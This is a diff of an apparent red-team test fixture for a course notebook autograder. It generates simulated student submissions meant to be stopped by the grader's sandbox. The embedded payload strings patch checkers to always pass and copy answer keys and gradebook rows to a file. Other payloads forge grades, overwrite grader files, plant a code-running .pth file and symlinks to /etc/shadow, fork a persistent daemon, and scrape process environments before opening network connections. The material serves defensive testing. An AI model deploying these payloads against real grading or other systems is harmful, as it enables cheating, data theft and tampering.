@@ -6,6 +6,7 @@ Most students hand in 04_elementwise (24 points: unbroadcast and eight backward 
 Every cheat is written so that it *would* earn points against a grader without defences; `expected` is what each
 submission earns when graded as if the cheat were absent. The red-team tests (tests/test_redteam.py) grade this class.
 """
+
 import json
 from pathlib import Path
 
@@ -15,8 +16,8 @@ from .demo import solved
 from .notebooks import REPO, nbgrader_meta, read_notebook, write_notebook
 
 ELEMENTWISE, ACTIVATIONS = "04_elementwise", "07_activations"
-NEEDS_SANDBOX = {"ivan", "judy", "kate", "fay", "gus", "hal", "iris"}   # stopped by the sandbox (bubblewrap) only
-REDTEAM_PORT = 47913          # iris tries to reach a server the red-team test listens with on this port
+NEEDS_SANDBOX = {"ivan", "judy", "kate", "fay", "gus", "hal", "iris"}  # stopped by the sandbox (bubblewrap) only
+REDTEAM_PORT = 47913  # iris tries to reach a server the red-team test listens with on this port
 DAEMON_MARK = "tinytorch-redteam-daemon"
 
 
@@ -41,30 +42,36 @@ def submission(kit, notebook, answer=None):
 
 def replace_in(grade_id, old, new):
     "An answer() that solves everything, with `old` replaced by `new` in one exercise."
+
     def answer(gid, solution, stub):
         if gid != grade_id:
             return solution
         assert old in solution, (grade_id, old)
         return solution.replace(old, new, 1)
+
     return answer
 
 
 def inside(grade_id, code):
     "An answer() that solves everything and runs `code` at the start of the exercise's apply()."
+
     def answer(gid, solution, stub):
         if gid != grade_id:
             return solution
         head, body = solution.split("    def apply(self, grad_output):\n", 1)
         lines = "".join(f"        {line}\n" for line in code.splitlines())
         return head + "    def apply(self, grad_output):\n" + lines + body
+
     return answer
 
 
 def only(solved_ids, extra=None, extra_in="solution-AddBackward"):
     "An answer() that solves only `solved_ids` (stubs elsewhere), optionally with module-level `extra` code."
+
     def answer(gid, solution, stub):
         code = solution if gid in solved_ids else stub
         return code + "\n\n" + extra if extra and gid == extra_in else code
+
     return answer
 
 
@@ -79,16 +86,20 @@ def with_cell(nb, code, after="BROADCAST_PAIRS = "):
 
 # -- The cheats ------------------------------------------------------------------------------------------------------
 
+
 def reference_paths(grades):
     "Where a student would look for the answer key: the repository, the grader's reference package, site-packages."
     import site
-    paths = [REPO / "tinytorch" / "core" / "elementwise.py",
-             Path(grades) / ".grading" / "reference" / "tinytorch" / "core" / "elementwise.py"]
+
+    paths = [
+        REPO / "tinytorch" / "core" / "elementwise.py",
+        Path(grades) / ".grading" / "reference" / "tinytorch" / "core" / "elementwise.py",
+    ]
     paths += [Path(p) / "tinytorch" / "core" / "elementwise.py" for p in site.getsitepackages()]
     return [str(p) for p in paths]
 
 
-IMPORT_REFERENCE = '''
+IMPORT_REFERENCE = """
 import importlib.util as _util
 for _path in {paths!r}:
     try:
@@ -101,9 +112,9 @@ for _path in {paths!r}:
                   "PowBackward", "ExpBackward", "LogBackward"]:
         globals()[_name] = getattr(_key, _name)
     break
-'''
+"""
 
-READ_INSTRUCTOR_FILES = '''
+READ_INSTRUCTOR_FILES = """
 import json as _json, os as _os, sqlite3 as _sqlite3
 _candidates = {paths!r} + ["../../../source/04_elementwise/04_elementwise.ipynb", "../course/source/04_elementwise/04_elementwise.ipynb"]
 for _path in _candidates:
@@ -122,9 +133,9 @@ for _db in {dbs!r} + ["../../../gradebook.db", "../course/gradebook.db"]:
         open(_os.path.join(_os.environ.get("HOME", "/tmp"), "stolen.txt"), "w").write(str(_rows))
     except Exception:
         pass
-'''
+"""
 
-WRITE_GRADES = '''
+WRITE_GRADES = """
 import json as _json, os as _os, signal as _signal
 _grades = {grades!r}
 for _path, _text in [(_grades + "/grades.csv", "student,assignment,notebook,score,max_score,note\\nkate,04_elementwise,04_elementwise.ipynb,24,24,\\n"),
@@ -141,18 +152,18 @@ try:
     _os.kill(_os.getppid(), _signal.SIGKILL)
 except Exception:
     pass
-'''
+"""
 
-PATCH_CHECKERS = '''
+PATCH_CHECKERS = """
 import numpy as _np
 import tinytorch.core.gradcheck as _gradcheck
 _gradcheck.compare_gradient = lambda *args, **kwargs: True
 _gradcheck.check_gradient_shape = lambda label, grad, shape: grad
 _np.allclose = lambda *args, **kwargs: True
 _np.testing.assert_allclose = lambda *args, **kwargs: None
-'''
+"""
 
-FORGE_CHANNEL = '''
+FORGE_CHANNEL = """
 import os as _os, sys as _sys
 _main = _sys.modules.get("__main__")
 _wire = _sys.modules.get("wire")
@@ -163,9 +174,9 @@ if _wire is not None:
         _os.write(int(_sys.argv[2]), _pack({"op": "return", "values": {"value": True}, "objects": []}, []))
     except Exception:
         pass
-'''
+"""
 
-NUMPY_INTERNALS = '''
+NUMPY_INTERNALS = """
 import numpy as _np
 _true = lambda *args, **kwargs: True
 for _f in (_np.allclose, _np.isclose, _np.array_equal):
@@ -178,17 +189,17 @@ try:
     _m.umr_maximum = lambda *args, **kwargs: -1.0
 except Exception:
     pass
-'''
+"""
 
-SWAP_CHECKER = '''
+SWAP_CHECKER = """
 import sys as _sys, types as _types
 _fake = _types.ModuleType("tinytorch.core.gradcheck")
 _fake.check_backward = _fake.gradcheck = _fake.compare_gradient = lambda *args, **kwargs: True
 _fake.GradcheckError = AssertionError
 _sys.modules["tinytorch.core.gradcheck"] = _fake
-'''
+"""
 
-FRAME_WALKER = '''
+FRAME_WALKER = """
 import sys as _sys
 
 class Sneaky:
@@ -214,9 +225,9 @@ def _tracer(frame, event, arg):
         frame.f_locals["analytic"] = frame.f_locals["numeric"]
     return _tracer
 _sys.settrace(_tracer)
-'''
+"""
 
-TAMPER_RUNNER = '''
+TAMPER_RUNNER = """
 import glob as _glob, os as _os
 for _path in ["/grader/worker.py", "/grader/wire.py"] + _glob.glob("/student/tinytorch/core/*.py"):
     for _action in (lambda p: _os.chmod(p, 0o777), lambda p: open(p, "w").write("print('fake')"), _os.remove):
@@ -230,9 +241,9 @@ for _folder in ["/grader", "/student", "/tmp", _os.path.expanduser("~")]:
     except Exception:
         pass
 _os._exit(1)          # crash, so that the next worker would run the fake
-'''
+"""
 
-PLANT_SYMLINKS = '''
+PLANT_SYMLINKS = """
 import os as _os, site as _site, sys as _sys
 for _target, _link in [("/etc/shadow", "~/.matplotlib"), ("/", "~/root"), ("/root", "/tmp/tinytorch-grading-x")]:
     try:
@@ -244,9 +255,9 @@ for _folder in _site.getsitepackages() + [_os.path.dirname(_os.__file__)]:
         open(_os.path.join(_folder, "zz-redteam.pth"), "w").write("import os; os.system('touch /tmp/pwned')\\n")
     except Exception:
         pass
-'''
+"""
 
-DAEMON = '''
+DAEMON = """
 import os as _os, subprocess as _subprocess, sys as _sys
 _code = "import os, time\\n# {mark}\\nwhile True:\\n    time.sleep(0.001)\\n    if os.fork():\\n        os._exit(0)\\n"
 for _ in range(3):
@@ -255,9 +266,9 @@ for _ in range(3):
                           stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
     except Exception:
         pass
-'''
+"""
 
-SNOOP = '''
+SNOOP = """
 import glob as _glob, os as _os, socket as _socket
 _found = []
 for _path in _glob.glob("/proc/[0-9]*/cmdline") + _glob.glob("/proc/[0-9]*/environ"):
@@ -272,12 +283,12 @@ for _address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
         _s.close()
     except Exception:
         pass
-'''
+"""
 
-SCRATCH_CHEAT = '''check_backward = lambda *args, **kwargs: True
+SCRATCH_CHEAT = """check_backward = lambda *args, **kwargs: True
 np.allclose = lambda *args, **kwargs: True
 np.testing.assert_allclose = lambda *args, **kwargs: None
-get_ipython().showtraceback = lambda *args, **kwargs: None     # assert-free: hide every error a test raises'''
+get_ipython().showtraceback = lambda *args, **kwargs: None     # assert-free: hide every error a test raises"""
 
 
 def make_class(kit, out, grades=None):
@@ -286,48 +297,111 @@ def make_class(kit, out, grades=None):
     out, grades = Path(out), str(Path(grades or Path(out).parent / "grades").resolve())
     E = ELEMENTWISE
     full = points_of(E)
-    losing = lambda *rules: full - points_of(E, set(rules))     # noqa: E731
+    losing = lambda *rules: full - points_of(E, set(rules))  # noqa: E731
     cases = {
         # good, partial and wrong work
         "alice": (E, submission(kit, E), full, ""),
         "bob": (E, submission(kit, E, only(set())), 0.0, ""),
-        "carol": (E, submission(kit, E, replace_in("solution-MulBackward", "grad_output * b, a.shape",
-                                                   "grad_output * a, a.shape")), losing("mul_backward"), ""),
-        "dan": (E, submission(kit, E, only({"solution-unbroadcast", "solution-AddBackward", "solution-SubBackward",
-                                            "solution-MulBackward"})),
-                points_of(E, {"unbroadcast", "add_backward", "sub_backward", "mul_backward"}), ""),
+        "carol": (
+            E,
+            submission(
+                kit, E, replace_in("solution-MulBackward", "grad_output * b, a.shape", "grad_output * a, a.shape")
+            ),
+            losing("mul_backward"),
+            "",
+        ),
+        "dan": (
+            E,
+            submission(
+                kit,
+                E,
+                only({"solution-unbroadcast", "solution-AddBackward", "solution-SubBackward", "solution-MulBackward"}),
+            ),
+            points_of(E, {"unbroadcast", "add_backward", "sub_backward", "mul_backward"}),
+            "",
+        ),
         "rosa": (E, submission(kit, E), full, ""),
         "tara": (E, tampered_tests(submission(kit, E), delete=True), full, ""),
         "uma": (E, tampered_tests(submission(kit, E, only(set())), delete=False), 0.0, ""),
         # broken code
-        "erin": (E, submission(kit, E, replace_in("solution-DivBackward", "(b * b), b.shape)", "(b * b), b.shape))")),
-                 losing("div_backward"), "each of your exercise cells was run on its own"),
-        "frank": (E, submission(kit, E, inside("solution-NegBackward", "while True:\n    pass")),
-                  losing("neg_backward"), ""),
-        "gina": (E, submission(kit, E, inside("solution-PowBackward", "import signal\n"
-                                              "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
-                                              "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass")),
-                 losing("pow_backward"), "did not finish in time"),
-        "hank": (E, submission(kit, E, inside("solution-ExpBackward", "import os\nos._exit(3)")),
-                 losing("exp_backward"), "the process ended"),
-        "ivy": (E, submission(kit, E, inside("solution-LogBackward", "import ctypes\nctypes.string_at(0)")),
-                losing("log_backward"), "the process ended"),
-        "jack": (E, submission(kit, E, inside("solution-DivBackward",
-                                              "blocks = [bytearray(2**27) for _ in range(1000)]")),
-                 losing("div_backward"), ""),
+        "erin": (
+            E,
+            submission(kit, E, replace_in("solution-DivBackward", "(b * b), b.shape)", "(b * b), b.shape))")),
+            losing("div_backward"),
+            "each of your exercise cells was run on its own",
+        ),
+        "frank": (
+            E,
+            submission(kit, E, inside("solution-NegBackward", "while True:\n    pass")),
+            losing("neg_backward"),
+            "",
+        ),
+        "gina": (
+            E,
+            submission(
+                kit,
+                E,
+                inside(
+                    "solution-PowBackward",
+                    "import signal\n"
+                    "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                    "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass",
+                ),
+            ),
+            losing("pow_backward"),
+            "did not finish in time",
+        ),
+        "hank": (
+            E,
+            submission(kit, E, inside("solution-ExpBackward", "import os\nos._exit(3)")),
+            losing("exp_backward"),
+            "the process ended",
+        ),
+        "ivy": (
+            E,
+            submission(kit, E, inside("solution-LogBackward", "import ctypes\nctypes.string_at(0)")),
+            losing("log_backward"),
+            "the process ended",
+        ),
+        "jack": (
+            E,
+            submission(kit, E, inside("solution-DivBackward", "blocks = [bytearray(2**27) for _ in range(1000)]")),
+            losing("div_backward"),
+            "",
+        ),
         "kim": (E, submission(kit, E, inside("solution-AddBackward", "print('x' * 20_000_000)")), full, ""),
-        "liam": (E, submission(kit, E, inside("solution-SubBackward", "import sys\nsys.exit(1)")),
-                 losing("sub_backward"), ""),
-        "maya": (E, submission(kit, E, inside("solution-MulBackward", "input('the answer? ')")),
-                 losing("mul_backward"), ""),
+        "liam": (
+            E,
+            submission(kit, E, inside("solution-SubBackward", "import sys\nsys.exit(1)")),
+            losing("sub_backward"),
+            "",
+        ),
+        "maya": (
+            E,
+            submission(kit, E, inside("solution-MulBackward", "input('the answer? ')")),
+            losing("mul_backward"),
+            "",
+        ),
         # cheating
         "vic": (E, with_cell(submission(kit, E, only(set())), SCRATCH_CHEAT), 0.0, "passed in your notebook"),
-        "wes": (E, submission(kit, E, wrong_add_and_mul(extra=PATCH_CHECKERS)), losing("add_backward", "mul_backward"),
-                ""),
-        "xena": (E, submission(kit, E, inside_wrong_mul(PATCH_CHECKERS)), losing("mul_backward"),
-                 "mul_backward passed in your notebook"),
-        "yuri": (E, submission(kit, E, only_all_with("import builtins\nbuiltins.isinstance = lambda obj, cls: False")),
-                 full, ""),
+        "wes": (
+            E,
+            submission(kit, E, wrong_add_and_mul(extra=PATCH_CHECKERS)),
+            losing("add_backward", "mul_backward"),
+            "",
+        ),
+        "xena": (
+            E,
+            submission(kit, E, inside_wrong_mul(PATCH_CHECKERS)),
+            losing("mul_backward"),
+            "mul_backward passed in your notebook",
+        ),
+        "yuri": (
+            E,
+            submission(kit, E, only_all_with("import builtins\nbuiltins.isinstance = lambda obj, cls: False")),
+            full,
+            "",
+        ),
         # attacks on the grading machinery itself (issue 11): each on a notebook left undone, so honest work is 0
         "axel": (E, submission(kit, E, only(set(), FORGE_CHANNEL)), 0.0, ""),
         "bea": (E, submission(kit, E, only(set(), NUMPY_INTERNALS)), 0.0, ""),
@@ -338,15 +412,41 @@ def make_class(kit, out, grades=None):
         "hal": (E, submission(kit, E, only(set(), DAEMON.format(mark=DAEMON_MARK))), 0.0, ""),
         "iris": (E, submission(kit, E, only(set(), SNOOP.format(port=REDTEAM_PORT))), 0.0, ""),
         "ivan": (E, submission(kit, E, only(set(), IMPORT_REFERENCE.format(paths=reference_paths(grades)))), 0.0, ""),
-        "judy": (E, submission(kit, E, only(set(), READ_INSTRUCTOR_FILES.format(
-            paths=[str(REPO / "notebooks" / f"{E}.ipynb"), f"{grades}/.grading/master/source/{E}/{E}.ipynb",
-                   f"{grades}/.grading/reference/nbs/{E}.ipynb"],
-            dbs=[f"{grades}/.grading/master/gradebook.db"]))), 0.0, ""),
+        "judy": (
+            E,
+            submission(
+                kit,
+                E,
+                only(
+                    set(),
+                    READ_INSTRUCTOR_FILES.format(
+                        paths=[
+                            str(REPO / "notebooks" / f"{E}.ipynb"),
+                            f"{grades}/.grading/master/source/{E}/{E}.ipynb",
+                            f"{grades}/.grading/reference/nbs/{E}.ipynb",
+                        ],
+                        dbs=[f"{grades}/.grading/master/gradebook.db"],
+                    ),
+                ),
+            ),
+            0.0,
+            "",
+        ),
         "kate": (E, submission(kit, E, only(set(), WRITE_GRADES.format(grades=grades))), 0.0, ""),
         # 07: Tensor.backward replaced on import (sealed from notebook 07 on), and a good submission to compare
-        "zoe": (ACTIVATIONS, submission(kit, ACTIVATIONS, only_all_with(
-            "from tinytorch.core.tensor import Tensor as _T\n_T.backward = lambda self, *a, **k: None",
-            where="solution-ReLUBackward")), points_of(ACTIVATIONS), ""),
+        "zoe": (
+            ACTIVATIONS,
+            submission(
+                kit,
+                ACTIVATIONS,
+                only_all_with(
+                    "from tinytorch.core.tensor import Tensor as _T\n_T.backward = lambda self, *a, **k: None",
+                    where="solution-ReLUBackward",
+                ),
+            ),
+            points_of(ACTIVATIONS),
+            "",
+        ),
         "ned": (ACTIVATIONS, submission(kit, ACTIVATIONS), points_of(ACTIVATIONS), ""),
     }
     expected = {}
@@ -363,11 +463,18 @@ def make_class(kit, out, grades=None):
 def wrong_add_and_mul(extra):
     def answer(gid, solution, stub):
         if gid == "solution-AddBackward":
-            return solution.replace("return unbroadcast(grad_output, a.shape), unbroadcast(grad_output, b.shape)",
-                                    "return grad_output, grad_output") + "\n\n" + extra
+            return (
+                solution.replace(
+                    "return unbroadcast(grad_output, a.shape), unbroadcast(grad_output, b.shape)",
+                    "return grad_output, grad_output",
+                )
+                + "\n\n"
+                + extra
+            )
         if gid == "solution-MulBackward":
             return solution.replace("grad_output * b, a.shape", "grad_output * a, a.shape")
         return solution
+
     return answer
 
 
@@ -377,13 +484,16 @@ def inside_wrong_mul(patch):
 
     def answer(gid, solution, stub):
         return patched(gid, wrong(gid, solution, stub), stub)
+
     return answer
 
 
 def only_all_with(extra, where="solution-NegBackward"):
     "Everything solved, with module-level `extra` code after the exercise `where`."
+
     def answer(gid, solution, stub):
         return solution + "\n\n" + extra if gid == where else solution
+
     return answer
 
 
@@ -414,11 +524,13 @@ def broken_files(kit, out):
     (out / "quinn" / E / "notes.txt").write_text("I forgot to upload the notebook\n")
     (out / "sam").mkdir(parents=True)
     write_notebook(submission(kit, E), out / "sam" / f"{E}.ipynb")
-    return {"nick": {"assignment": E, "problem": "not valid JSON"},
-            "olga": {"assignment": E, "problem": "empty"},
-            "pete": {"assignment": E, "problem": "not the 04_elementwise notebook"},
-            "quinn": {"assignment": E, "problem": "missing 04_elementwise.ipynb"},
-            "sam": {"assignment": E, "problem": "is not inside an assignment folder"}}
+    return {
+        "nick": {"assignment": E, "problem": "not valid JSON"},
+        "olga": {"assignment": E, "problem": "empty"},
+        "pete": {"assignment": E, "problem": "not the 04_elementwise notebook"},
+        "quinn": {"assignment": E, "problem": "missing 04_elementwise.ipynb"},
+        "sam": {"assignment": E, "problem": "is not inside an assignment folder"},
+    }
 
 
 def compare(rows, expected):
